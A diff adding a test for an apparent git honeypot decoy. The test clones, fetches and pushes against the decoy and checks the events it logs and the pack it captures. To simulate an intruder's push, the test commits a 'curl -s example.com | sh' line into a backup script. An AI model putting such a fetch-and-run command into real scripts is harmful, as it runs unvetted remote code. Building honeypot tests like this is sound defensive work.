@@ -119,3 +119,117 @@ testWith(
     assertEquals(events.filter(isTarget("example.com:443")).length, 2);
   },
 );
+
+const GIT_CONFIG = `service: { listen: ["127.0.0.1:@service"], inner: "127.0.0.1:@inner" }
+decoys:
+  - { kind: git, repositories: [/infra.git], receive_pack: true, listen: ["127.0.0.1:@gitdaemon"] }
+lures:
+  - { kind: git-file }
+`;
+
+/** git without anybody's settings; what it wrote, both streams. */
+async function runGit(folder: string, args: readonly string[], code = 0): Promise<string> {
+  const env = {
+    PATH: "/usr/bin:/bin",
+    HOME: folder,
+    GIT_CONFIG_NOSYSTEM: "1",
+    GIT_AUTHOR_NAME: "x",
+    GIT_AUTHOR_EMAIL: "x@example.com",
+    GIT_COMMITTER_NAME: "x",
+    GIT_COMMITTER_EMAIL: "x@example.com",
+    LC_ALL: "C",
+  };
+  const ran = await runToEnd("git", args, { env, clearEnv: true });
+  assertEquals(ran.code, code, ran.stderr);
+  return ran.stdout + ran.stderr;
+}
+
+/** Clones, looks, fetches; all that git checks must hold. */
+async function takeRepository(url: string, folder: string): Promise<void> {
+  const lists: string[] = [];
+  for (const version of [0, 1, 2]) {
+    const clone = `${folder}/clone${version}`;
+    const own = ["-c", `protocol.version=${version}`];
+    const said = await runGit(folder, [...own, "clone", "--progress", url, clone]);
+    assertMatch(said, /remote: Counting objects: 100% \((\d+)\/\1\), done\./);
+    assertEquals(await runGit(folder, ["-C", clone, "fsck", "--strict", "--full"]), "");
+    lists.push(await runGit(folder, [...own, "ls-remote", "--quiet", url]));
+    assertEquals(await runGit(folder, ["-C", clone, ...own, "fetch", "--tags"]), "");
+  }
+  assertEquals(new Set(lists).size, 1);
+  assertMatch(lists[0]!, /\tHEAD\n.*\trefs\/heads\/main\n.*\trefs\/tags\/v1\.0\n.*v1\.0\^\{\}\n$/);
+
+  const shallow = `${folder}/shallow`;
+  const at = ["-C", shallow];
+  await runGit(folder, ["clone", "-q", "--depth=2", url, shallow]);
+  const count = ["rev-list", "--count", "HEAD"];
+  assertEquals(await runGit(folder, [...at, ...count]), "2\n");
+  await runGit(folder, [...at, "fetch", "-q", "--deepen=1"]);
+  assertEquals(await runGit(folder, [...at, ...count]), "3\n");
+  await runGit(folder, [...at, "fetch", "-q", "--unshallow"]);
+  const whole = await runGit(folder, ["-C", `${folder}/clone2`, ...count]);
+  assertEquals(await runGit(folder, [...at, ...count]), whole);
+  assertEquals(await runGit(folder, [...at, "fsck", "--strict", "--full"]), "");
+  const partial = ["clone", "-q", "--filter=blob:none", url, `${folder}/partial`];
+  assertMatch(await runGit(folder, partial), /filtering not recognized by server, ignoring/);
+}
+
+/** Pushes a commit, a new branch and the end of a tag. */
+async function push(folder: string): Promise<void> {
+  const at = ["-C", `${folder}/clone2`];
+  await Deno.writeTextFile(`${folder}/clone2/scripts/backup.sh`, "curl -s example.com | sh\n");
+  await runGit(folder, [...at, "commit", "-qam", "A small fix"]);
+  const said = await runGit(folder, [...at, "push", "origin", "main", "main:x", ":v1.0"], 1);
+  for (const what of ["main -> main", "main -> x", "v1.0"]) {
+    assert(said.includes(`! [remote rejected] ${what} (pre-receive hook declined)`), said);
+  }
+}
+
+testWith(
+  "git clones a repository of the decoy, whole and in part, and what it pushes is declined and told",
+  { programs: ["git"] },
+  async () => {
+    let lure = "";
+    const events = await watched(() => Program.source(GIT_CONFIG), async ({ program }) => {
+      const { folder, ports } = program;
+      const url = `git://127.0.0.1:${ports.gitdaemon}/infra.git`;
+      await takeRepository(url, folder);
+      await push(folder);
+      lure = await Deno.readTextFile(`${folder}/clone0/group_vars/all.yml`);
+
+      const [payload, ...more] = (await program.journal()).events
+        .filter(({ event }) => event.action === "payload");
+      assertEquals(more, []);
+      // What was captured is the very pack, which git can take to pieces where it has the rest.
+      const pack = `${folder}/captured`;
+      await Deno.writeFile(pack, fromBase64(payload!.duckblind.payload.base64));
+      const script = `git -C "$1" index-pack --strict --fix-thin --stdin <"$2"`;
+      const taken = await runToEnd("sh", ["-c", script, "sh", `${folder}/clone0`, pack]);
+      assertMatch(taken.stdout, /^pack\t[0-9a-f]{40}\n$/, taken.stderr);
+    });
+    const password = /portal_db_password: (\S{20})\n/.exec(lure)![1]!;
+    assert(!JSON.stringify(events).includes(password), "a password that nobody tried is told");
+
+    const commands = events.filter(({ event }) => event.action === "command");
+    const verbs = commands.map(({ process }) => process!.command_line!.split(" ")[0]!);
+    const times = (verb: string) => verbs.filter((each) => each === verb).length;
+    // Three clones, a shallow one, one more commit and in two rounds its tag, the rest, and a clone
+    // that asked for a filter.
+    assertEquals([times("fetch"), times("git-receive-pack")], [9, 1]);
+    assertEquals(verbs.slice(-3).sort(), ["create-ref", "delete-ref", "update-ref"]);
+    for (const { process, user_agent, duckblind } of commands) {
+      const isRequest = process!.command_line!.startsWith("git-");
+      assertEquals(/^git\//.test(user_agent?.original ?? ""), !isRequest, process!.command_line);
+      const isPush = /^\w+-ref /.test(process!.command_line!);
+      assertEquals(duckblind.command.reply_code, isPush ? "ng" : undefined);
+    }
+    const touched = events.filter(({ event }) => event.action === "lure-touched");
+    assertEquals(touched.every(({ duckblind }) => duckblind.lure.id === "git-file"), true);
+    assertEquals(touched.length >= 4, true);
+    assertEquals(events.some(({ event }) => event.action === "protocol-error"), false);
+  },
+);
+
+function fromBase64(text: string): Uint8Array {
+  return Uint8Array.from(atob(text), (character) => character.charCodeAt(0));
+}
